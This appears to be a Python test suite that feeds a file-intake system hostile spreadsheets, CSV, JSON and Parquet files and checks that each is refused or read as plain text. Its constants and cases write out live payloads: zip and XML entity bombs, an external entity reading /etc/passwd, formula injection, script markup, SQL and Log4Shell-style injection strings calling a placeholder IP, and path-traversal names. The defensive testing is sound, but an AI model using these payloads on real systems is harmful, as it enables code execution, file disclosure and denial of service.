"""Files that mean harm: each is refused by name, or read for what it says and nothing more."""

from __future__ import annotations

import io
import json
from functools import partial

import pandas as pd
import pyarrow as pa

from icp_core.intake.files.source import MOST_BYTES
from icp_core.reports import csv_bytes
from tests.intake.corpus.build import (
    SHEET,
    archive,
    changed,
    long_texts,
    overlapping,
    parquet,
    parts_of,
    with_sizes,
    workbook,
)
from tests.intake.corpus.case import Case
from tests.intake.corpus.typed_files import ods

TWO = [["Customer", "City"], ["Acme", "Oslo"], ["Beta", "Rome"]]
PLAIN = {"accounts": {"name": ["Acme", "Beta"], "city": ["Oslo", "Rome"]}}
FORMULAS = ("=cmd|' /C calc'!A0", "+SUM(1)", "-SUM(2)", "@SUM(3)", "|calc", "%COMSPEC%",
            "\N{FULLWIDTH EQUALS SIGN}A1", "=HYPERLINK(\"http://203.0.113.1\")")  # fmt: skip
MARKUP = ("![x](http://203.0.113.1/x.png)", "<img src=x onerror=alert(1)>", "<a href='http://203.0.113.1'>Acme</a>",
          "[Acme](javascript:alert(1))", ":red[Acme] $x^2$")  # fmt: skip
CODE = ("@__import__('os').system('id')", "'; DROP TABLE accounts; --", "read_csv('/etc/passwd')", "{{7*7}}",
        "${jndi:ldap://203.0.113.1/a}", "../../etc/passwd")  # fmt: skip
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
HARMED = ("file_damaged", "file_unsafe", "file_too_wide", "file_too_large", "file_too_heavy")
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {name} "{f"&{before};" * 10}">' for before, name in zip("abcdefghi", "bcdefghij", strict=True))
    + ']><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">'
    "<si><t>&j;</t></si></sst>"
)


def names(*values: str) -> bytes:
    """Companies of these names, each with a city."""
    return pd.DataFrame({"Customer": values, "City": "Oslo"}).to_csv(index=False).encode()


def sheet(cells: str) -> bytes:
    return changed(workbook({"a": TWO}), sheet=SHEET % cells)


def zipped_zips(depth: int) -> bytes:
    inner = b"x" * 1000
    for k in range(depth):
        inner = archive({f"{k}.zip": inner})
    return inner


def workbook_with_a_bomb_within() -> bytes:
    """Its table is small and whole; beside it lies an archive that no one opens."""
    return archive({**parts_of(workbook({"a": TWO})), "xl/media/inner.zip": archive({"z": b"\0" * 3_000_000})})


def lying() -> bytes:
    """Sixteen megabytes that call themselves a hundred bytes."""
    cells = "".join(f'<row r="{i}"><c r="A{i}"><v>{i}</v></c></row>' for i in range(1, 200_000))
    return with_sizes(sheet(cells), "xl/worksheets/sheet1.xml", 100)


def lying_strings() -> bytes:
    """Shared strings that call themselves short and unpack to more than a workbook may."""
    large = changed(workbook({"a": TWO}), strings=b"<sst>" + b" " * 8_000_000 + b"</sst>")
    return with_sizes(large, "xl/sharedStrings.xml", 100)


def shared(xml: str) -> bytes:
    return changed(workbook({"a": TWO}), strings=xml)


def quotes_in_steps(n: int) -> bytes:
    """Each line opens a quote, closes the one before and never ends a row: reading from each anew takes n * n steps."""
    return b"Customer,City,Size\n" + b"".join(b'C%d",""",y\n' % i for i in range(n))


def damaged_footer() -> bytes:
    good = bytearray(parquet({"account_id": ["1", "2"], "name": ["a", "b"]}))
    good[-40:-8] = b"\xff" * 32
    return bytes(good)


def nested_texts() -> bytes:
    """Six hundred lists of one text of a megabyte, which the file holds once."""
    texts = pa.ListArray.from_arrays(pa.array(range(601), pa.int32()), long_texts(600, 1_000_000))
    return parquet({"account_id": [str(i) for i in range(600)], "technologies": texts})


def nested_numbers() -> bytes:
    """Two rows, the first a list of sixty million numbers that are all the same."""
    flags = pa.nulls(60_000_000, pa.bool_())
    return parquet(
        {"account_id": ["1", "2"], "x": pa.ListArray.from_arrays(pa.array([0, 60_000_000, 60_000_000]), flags)}
    )


def _no_formula(found) -> None:
    """Whatever leaves as CSV starts no formula."""
    text = csv_bytes(found.accounts).decode("utf-8-sig")
    cells = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False, header=None).to_numpy().ravel()
    assert not [cell for cell in cells if cell[:1] in "=+-@|%\N{FULLWIDTH EQUALS SIGN}" and cell]


def _files(found, expected: list[str]) -> None:
    assert found.mapping["file"].unique().tolist() == expected


def _n(found, n: int) -> None:
    assert len(found.accounts) == n


def _accounts_or_aside(found, n: int) -> None:
    """Each line is a company, a duplicate of one, or set aside: none is swallowed."""
    aside = found.report["code"].isin(["refused_row", "duplicate_account", "no_key"]) & found.report["row"].notna()
    assert len(found.accounts) + int(aside.sum()) == n


CASES = [
    Case("far_cell", "far_cell excel_child",
         {"far.xlsx": partial(sheet, '<row r="1"><c r="A1"/><c r="XFD1048576"/></row>')}, refused="file_too_wide"),
    Case("far_cell_by_dimension", "far_cell",
         {"far.xlsx": lambda: changed(workbook({"a": TWO}), sheet=SHEET.replace(
             "<sheetData>", '<dimension ref="A1:XFD1048576"/><sheetData>') % '<row r="1"><c r="A1"/></row>')},
         refused="file_too_wide"),
    Case("far_cell_in_open_document", "far_cell",
         {"far.ods": lambda: ods(TWO, columns=16_384, times=1_048_576)}, refused=HARMED),
    Case("bomb_by_ratio", "zip_bomb", {"bomb.xlsx": lambda: sheet(" " * 8_000_000)}, refused="file_unsafe"),
    Case("bomb_of_entries", "zip_entries zip_bomb",
         {"bomb.xlsx": lambda: archive({"xl/workbook.xml": b"<workbook/>", **{f"x/{i}": b"" for i in range(2_001)}})},
         refused="file_unsafe"),
    Case("bomb_nested", "zip_nested zip_bomb", {"bomb.xlsx": lambda: zipped_zips(8)}, refused="file_not_a_workbook"),
    Case("bomb_beside_the_table", "zip_nested zip_bomb", {"list.xlsx": workbook_with_a_bomb_within}, PLAIN),
    Case("sizes_that_lie", "zip_sizes_lie zip_bomb", {"lies.xlsx": lying}, refused=HARMED),
    Case("sizes_of_strings_that_lie", "zip_sizes_lie zip_bomb", {"lies.xlsx": lying_strings}, refused=HARMED),
    Case("entries_that_overlap", "zip_overlaps zip_bomb",
         {"lies.xlsx": lambda: overlapping(sheet('<row><c r="A1"/></row>' * 9_000), "xl/worksheets/sheet1.xml", 1_900)},
         refused=HARMED),
    Case("entities_in_strings", "xml_entities", {"laughs.xlsx": lambda: shared(LAUGHS)}, refused="file_damaged"),
    Case("entity_from_a_file", "xml_entities",
         {"reads.xlsx": lambda: shared(
             '<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY x SYSTEM "file:///etc/passwd">]><sst><si><t>&x;</t></si></sst>')},
         refused="file_damaged"),
    Case("zip_cut_short", "truncated", {"cut.xlsx": lambda: workbook({"a": TWO})[:-900]}, refused="file_damaged"),
    Case("zip_without_a_sheet", "truncated", {"cut.xlsx": lambda: archive({"xl/workbook.xml": b"<workbook/>"})},
         refused="file_damaged"),
    Case("tags_that_never_end", "truncated", {"a.xlsx": lambda: sheet("<c <row " * 50_000)}, refused=HARMED),
    Case("password", "encrypted",
         {"locked.xlsx": OLE + b"\0" * 600 + "EncryptedPackage".encode("utf-16-le") + b"\0" * 100},
         refused="file_password"),
    Case("old_workbook_of_noise", "encrypted truncated",
         {"old.xls": OLE + bytes(range(256)) * 20}, refused="file_damaged"),
    Case("web_page", "html_as_workbook",
         {"report.xls": b"\xef\xbb\xbf \r\n<HTML><body><table><tr><td>Acme</td></tr></table></body></HTML>"},
         refused="file_html"),
    Case("pdf", "html_as_workbook", {"report.csv": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"}, refused="file_other_kind"),
    Case("sixty_thousand_columns", "wide_sheet",
         {"wide.csv": lambda: "\n".join(",".join(f"{word}{i}" for i in range(65_536)) for word in "hab").encode()},
         refused="file_too_many_columns"),
    Case("hundred_thousand_commas", "wide_sheet long_line",
         {"commas.csv": b"Customer,City\nAcme,Oslo\n" + b"," * 100_000 + b"\nBeta,Rome\n"}, PLAIN),
    Case("hundred_thousand_cells_in_one_row", "wide_sheet long_line",
         {"cells.csv": b"Customer,City\nAcme,Oslo\n" + b"x," * 100_000 + b"\nBeta,Rome\n"}, PLAIN,
         says={"refused_row": (3,)}),
    Case("cell_of_five_megabytes", "long_cell",
         {"long.csv": lambda: b"Customer,City,Note\nAcme,Oslo,a\nBeta,Rome," + b"x" * 5_000_000 + b"\n"}, PLAIN),
    Case("name_of_five_megabytes", "long_cell",
         {"long.csv": lambda: b"Customer,City,Employees\nAcme,Oslo,5\n" + b"y" * 5_000_000 + b",Rome,6\n"},
         {"accounts": {"city": ["Oslo", "Rome"], "employees": [5, 6]}}),
    Case("digits_of_a_megabyte", "long_cell",
         {"long.csv": lambda: b"Customer,City,Employees\nAcme,Oslo," + b"9" * 1_000_000 + b"\nBeta,Rome,6\n"
          b"Ceta,Bern,7\n"},
         {"accounts": {"employees": [None, 6, 7]}}, says={"unreadable_number": (2,)}),
    Case("line_without_an_end", "long_line",
         {"line.csv": lambda: b"x" * 10_000_000}, refused=("file_no_rows", "no_companies")),
    Case("line_of_cells_without_an_end", "long_line wide_sheet", {"line.csv": lambda: b"ab,cd;" * 1_600_000},
         refused=("file_no_rows", "file_too_many_columns")),
    Case("header_of_a_megabyte", "long_cell",
         {"long.csv": lambda: b"Customer,City," + b"h" * 1_000_000 + b"\nAcme,Oslo,1\nBeta,Rome,2\n"}, PLAIN),
    Case("quotes_that_never_close", "open_quote",
         {"open.csv": lambda: b"Customer,City\n" + b"".join(b'"Acme %d,Oslo\n' % i for i in range(4_000))},
         also=lambda found: _accounts_or_aside(found, 4_000)),
    Case("quotes_that_never_close_in_steps", "open_quote", {"open.csv": lambda: quotes_in_steps(20_000)},
         also=lambda found: _accounts_or_aside(found, 20_000)),
    Case("nul_bytes", "nul_bytes", {"nul.csv": b"Customer,City\nAc\0me,Oslo\n\0\0\0,Rome\n"}, refused="file_binary"),
    Case("noise", "nul_bytes", {"noise.csv": bytes(range(256)) * 30}, refused="file_binary"),
    Case("nothing_but_a_mark", "byte_order_mark", {"empty.csv": b"\xef\xbb\xbf\r\n"}, refused="file_empty"),
    Case("formulas_as_names", "formula_injection", {"customers.csv": names(*FORMULAS)},
         {"accounts": {"name": list(FORMULAS)}}, also=_no_formula),
    Case("formula_as_header", "formula_injection",
         {"customers.csv": b"Customer,=1+1,@x\nAcme,a,c\nBeta,b,d\n"}, {"accounts": {"name": ["Acme", "Beta"]}},
         also=_no_formula),
    Case("formulas_in_a_workbook_as_text", "formula_injection excel",
         {"list.xlsx": lambda: workbook({"a": [["Customer", "City"], *([text, "Oslo"] for text in FORMULAS)]})},
         {"accounts": {"name": list(FORMULAS)}}, also=_no_formula),
    Case("markup_in_names", "markdown_in_names html_in_names", {"customers.csv": names(*MARKUP)},
         {"accounts": {"name": list(MARKUP)}}),
    Case("code_in_cells", "code_in_text", {"customers.csv": names(*CODE)}, {"accounts": {"name": list(CODE)}}),
    Case("code_in_headers", "code_in_text",
         {"customers.csv": b"Customer,__class__,index,{0.__init__},a`b\nAcme,a,b,c,d\nBeta,e,f,g,h\n"},
         {"accounts": {"name": ["Acme", "Beta"]}}),
    Case("path_in_a_file_name", "path_in_names",
         {"../../etc/customers.csv": b"Customer,City\nAcme,Oslo\nBeta,Rome\n"}, PLAIN,
         also=lambda found: _files(found, ["../../etc/customers.csv"])),
    Case("path_of_windows_in_a_file_name", "path_in_names",
         {"C:\\Users\\x\\customers.csv": b"Customer,City\nAcme,Oslo\nBeta,Rome\n"}, PLAIN),
    Case("markup_in_a_file_name", "path_in_names html_in_names",
         {"<img src=x>{0}%s customers.csv": b"Customer,City\nAcme,Oslo\nBeta,Rome\n"}, PLAIN),
    Case("two_names_alike_but_for_case", "case_in_names",
         {"Customers.csv": b"Customer,City\nAcme,Oslo\n", "customers.CSV": b"Customer,City\nBeta,Rome\n"}, PLAIN,
         also=lambda found: _files(found, ["Customers.csv", "customers.CSV"])),
    Case("right_to_left", "right_to_left", {"customers.csv": "Customer,City\n\u202eemcA,Oslo\nBeta,Rome\n".encode()},
         {"accounts": {"city": ["Oslo", "Rome"]}}, also=lambda found: _n(found, 2)),
    Case("right_to_left_in_a_file_name", "right_to_left path_in_names",
         {"\u202evsc.exe customers": b"Customer,City\nAcme,Oslo\nBeta,Rome\n"}, PLAIN),
    Case("half_a_surrogate", "surrogates",
         {"half.csv": b"\xff\xfe" + "Customer,City\nAc".encode("utf-16-le") + b"\x00\xd8" + "me,Oslo\n"
          "".encode("utf-16-le")},
         refused=("file_binary", "file_damaged")),
    Case("json_of_thousands_of_keys", "wide_sheet json_lines",
         {"wide.jsonl": json.dumps({f"k{i}": i for i in range(20_000)}).encode()},
         refused=("json_too_many_keys", "file_too_many_columns")),
    Case("deep_json", "deep_json json_lines", {"deep.json": b"[" * 100_000 + b"]" * 100_000},
         refused=("json_too_deep", "file_damaged", "no_companies", "file_no_rows", "file_unsafe")),
    Case("deep_json_line", "deep_json json_lines",
         {"deep.jsonl": b'{"Customer": "Acme", "x": ' + b'{"a":' * 50_000 + b"1" + b"}" * 50_000 + b"}\n"},
         refused=("json_too_deep", "file_damaged", "no_companies", "file_no_rows", "file_unsafe")),
    Case("parquet_of_long_texts", "parquet_bomb parquet",
         {"a.parquet": lambda: parquet({"account_id": list(map(str, range(600))), "name": long_texts(600, 1_000_000)})},
         refused="file_too_large"),
    Case("parquet_of_lists_of_long_texts", "parquet_bomb parquet", {"a.parquet": nested_texts}, refused=HARMED),
    Case("parquet_of_one_endless_list", "parquet_bomb parquet", {"a.parquet": nested_numbers}, refused=HARMED),
    Case("parquet_of_thousands_of_columns", "wide_sheet parquet",
         {"wide.parquet": lambda: parquet({f"k{i}": ["x"] for i in range(3_000)})}, refused="file_too_many_columns"),
    Case("parquet_of_noise", "parquet_damaged parquet", {"a.parquet": b"PAR1" + b"junk" * 50}, refused="file_damaged"),
    Case("parquet_footer_damaged", "parquet_damaged parquet", {"a.parquet": damaged_footer}, refused="file_damaged"),
    Case("parquet_cut_short", "parquet_damaged truncated",
         {"a.parquet": lambda: parquet({"account_id": ["1"], "name": ["a"]})[:-20]}, refused="file_damaged"),
    Case("parquet_encrypted", "encrypted parquet_damaged",
         {"a.parquet": b"PARE" + bytes(range(200)) + b"\x10\0\0\0PARE"},
         refused=("file_password", "file_damaged", "file_binary")),
    Case("file_too_large", "too_large", {"large.csv": lambda: b"x" * (MOST_BYTES + 1)}, refused="file_too_large"),
]  # fmt: skip
